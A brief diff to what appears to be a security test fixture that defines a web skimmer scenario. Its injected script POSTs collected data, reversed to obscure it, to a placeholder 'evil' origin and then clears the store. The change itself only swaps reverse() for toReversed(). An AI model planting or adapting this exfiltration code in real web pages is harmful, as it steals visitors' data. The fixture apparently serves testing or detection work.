@@ -25,11 +25,11 @@ export default skimmer({
       if (!all.result.length) return;
       var x = new XMLHttpRequest();
       x.open('POST', '${site.origins.evil}/metrics');
-      x.send(all.result.map(function (r) { return Array.from(r.t).reverse().join(''); }).join('\n'));
+      x.send(all.result.map(function (r) { return Array.from(r.t).toReversed().join(''); }).join('\n'));
       store.clear();
     };
   };
 })();`);
   },
-  proof: holds((arrived) => bodies(arrived).map((body) => Array.from(body).reverse().join(''))),
+  proof: holds((arrived) => bodies(arrived).map((body) => Array.from(body).toReversed().join(''))),
 });
